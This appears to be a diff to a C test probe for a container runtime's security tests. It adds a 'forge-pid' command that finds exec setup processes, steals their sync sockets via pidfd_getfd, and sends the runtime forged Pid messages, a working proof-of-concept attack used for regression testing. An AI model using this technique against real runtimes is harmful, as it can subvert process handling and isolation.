@@ -206,6 +206,49 @@ static void __attribute__((noreturn)) stop_execs(void) {
     }
 }
 
+/* Issue 25 item 2, the attacker's half: with CAP_SYS_PTRACE, take the sync socket of an exec's
+ * setup process (an "exec" in its argv) with pidfd_getfd and send the runtime a forged Pid
+ * message (tag 2, a little-endian int) naming TARGET, then a byte no message starts with. Prints
+ * FORGED PID each time, for ROUNDS processes, then exits. */
+static int forge_pid(int target, int rounds) {
+    int done = 0, last = 0;
+    while (done < rounds) {
+        DIR *d = opendir("/proc");
+        for (int pid; (pid = next_pid(d));) {
+            if (pid == 1 || pid == getpid() || pid == last)
+                continue;
+            char cmd[4096];
+            ssize_t n = read_cmdline(pid, cmd, sizeof cmd - 1);
+            int exec = 0;
+            for (char *a = cmd; n > 0 && a < cmd + n; a += strlen(a) + 1)
+                exec |= !strcmp(a, "exec");
+            int pfd = exec ? (int)syscall(SYS_pidfd_open, pid, 0) : -1;
+            for (int fd = 0; pfd >= 0 && fd < 64; fd++) {
+                int s = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
+                int type = 0;
+                socklen_t l = sizeof type;
+                if (s >= 0 && getsockopt(s, SOL_SOCKET, SO_TYPE, &type, &l) == 0 && type == SOCK_SEQPACKET) {
+                    unsigned char m[5] = {2}, bad = 0xff;
+                    memcpy(m + 1, &target, 4);
+                    send(s, m, sizeof m, MSG_NOSIGNAL);
+                    send(s, &bad, 1, MSG_NOSIGNAL);
+                    printf("FORGED %d\n", pid);
+                    done++;
+                    last = pid;
+                    fd = 64;
+                }
+                if (s >= 0)
+                    close(s);
+            }
+            if (pfd >= 0)
+                close(pfd);
+        }
+        if (d)
+            closedir(d);
+    }
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc < 2) {
         fprintf(stderr, "usage: probe CMD ARGS...\n");
@@ -292,6 +335,8 @@ int main(int argc, char **argv) {
                 return report(-1);
         return report(0);
     }
+    if (!strcmp(c, "forge-pid"))
+        return forge_pid((int)num(argv[2]), (int)num(argv[3]));
     if (!strcmp(c, "stop-execs"))
         stop_execs();
     if (!strcmp(c, "fdscan"))
